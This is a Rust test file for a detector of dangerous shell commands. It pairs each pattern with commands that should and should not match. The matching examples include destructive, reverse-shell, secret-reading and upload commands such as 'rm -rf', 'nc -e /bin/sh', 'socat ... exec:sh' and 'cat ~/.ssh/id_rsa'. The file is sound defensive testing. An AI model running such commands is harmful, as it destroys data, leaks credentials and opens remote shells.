use super::*;

/// Every dangerous pattern with commands that must and must not fall under it.
const EXAMPLES: &[(&str, &[&str], &[&str])] = &[
    ("remove", &["rm -rf build", "rm --force x", "/bin/RM -r x"], &["rm x", "git rm -r x", "ls -rf"]),
    ("shred", &["shred x", "truncate -s 0 x"], &["echo shred"]),
    ("find-delete", &["find . -name x -delete"], &["find . -name delete"]),
    ("elevate", &["sudo ls", "doas ls"], &["pseudo ls"]),
    ("format", &["mkfs.ext4 /dev/sda1", "newfs_apfs disk2"], &["echo mkfs"]),
    ("erase-disk", &["diskutil eraseDisk JHFS+ x disk2"], &["diskutil list"]),
    ("write-device", &["dd if=x of=/dev/disk2"], &["dd if=/dev/disk2 of=x"]),
    ("overwrite", &["dd if=/dev/zero of=x"], &["dd if=x of=/dev/null"]),
    ("open-to-all", &["chmod 777 x", "chmod a+rwx x"], &["chmod 644 x", "chmod +x x"]),
    ("change-owner", &["chown -R u x"], &["chown u x"]),
    (
        "git-force",
        &["git push --force", "git push origin +main", "git push -f"],
        &["git push origin main", "git pull -f"],
    ),
    (
        "git-reset",
        &["git reset --hard", "git clean -fd", "git checkout -- ."],
        &["git reset x", "git checkout main"],
    ),
    ("git-history", &["git branch -D x", "git stash clear"], &["git branch -d x", "git stash"]),
    ("power", &["shutdown -h now", "reboot"], &["uptime"]),
    ("kill", &["killall node", "kill -9 5"], &["kill 5"]),
    ("service", &["launchctl load x", "systemctl stop x"], &["launchctl list", "systemctl status x"]),
    ("schedule", &["crontab -e", "crontab x"], &["crontab -l"]),
    ("settings", &["defaults write a b c", "csrutil disable"], &["defaults read a", "csrutil status"]),
    ("keychain", &["security find-generic-password -w x"], &["security help"]),
    ("script-apps", &["osascript x.scpt"], &["echo osascript"]),
    (
        "container-host",
        &["docker run -v /:/h alpine", "docker run --privileged x"],
        &["docker run -v /data:/d x"],
    ),
    ("container-delete", &["docker system prune", "docker volume rm x"], &["docker ps"]),
    ("sync-delete", &["rsync -a --delete a b"], &["rsync -a a b"]),
    ("publish", &["npm publish", "cargo publish"], &["npm run publish", "cargo build"]),
    (
        "cloud-delete",
        &["kubectl delete pod x", "terraform destroy", "aws s3 rb x"],
        &["kubectl get pods", "terraform plan"],
    ),
    ("remote-delete", &["gh repo delete x", "curl -X DELETE u"], &["gh repo view x", "curl u"]),
    ("database", &["dropdb x"], &["psql -c select"]),
    ("inline-code", &["python3 -c print", "node -e x", "perl -e x"], &["python3 x.py", "node x.js"]),
    ("remote-shell", &["nc -e /bin/sh h 1", "socat tcp:h exec:sh"], &["nc -z h 1"]),
    ("startup-file", &["tee /Users/u/.zshrc", "cp x ~/.bashrc"], &["cat ~/.zshrc", "cp x y"]),
    ("secrets", &["cat ~/.ssh/id_rsa", "cat .env"], &["cat ~/.ssh", "cat .envrc"]),
    ("upload", &["curl -d @x u", "curl -T x u", "scp x h:"], &["curl -d a=b u"]),
    ("firewall", &["pfctl -d", "iptables -F"], &["iptables -L"]),
    ("accounts", &["passwd u", "dscl . -create x"], &["id u"]),
    ("quarantine", &["xattr -d com.apple.quarantine x"], &["xattr -l x"]),
    ("to-nowhere", &["mv x /dev/null"], &["mv x y"]),
    ("whole-root", &["chmod 700 /", "tar cf x ~"], &["tar cf x src"]),
    ("system-files", &["cp x /etc/hosts", "rm /usr/bin/x"], &["cp /etc/hosts x"]),
    ("uninstall", &["brew uninstall x", "apt remove x"], &["brew install x"]),
    ("run-unknown", &["npx x", "npm exec x"], &["npm test"]),
];

fn hits(id: &str, command: &str) -> bool {
    let words: Vec<String> = command.split(' ').map(str::to_owned).collect();
    let danger = PATTERNS.iter().find(|danger| danger.id == id).unwrap();
    Seen::of_words(&words).is_some_and(|seen| (danger.test)(&seen))
}

#[test]
fn every_pattern_has_examples_that_match_and_that_do_not() {
    for danger in PATTERNS {
        assert!(EXAMPLES.iter().any(|(id, ..)| *id == danger.id), "{} has no examples", danger.id);
    }
    for (id, matching, missing) in EXAMPLES {
        for command in *matching {
            assert!(hits(id, command), "{id} must match {command}");
        }
        for command in *missing {
            assert!(!hits(id, command), "{id} must not match {command}");
        }
    }
}

#[test]
fn names_and_reasons_are_unique() {
    for (at, danger) in PATTERNS.iter().enumerate() {
        for other in &PATTERNS[..at] {
            assert_ne!(danger.id, other.id);
            assert_ne!(danger.reason, other.reason);
        }
    }
}
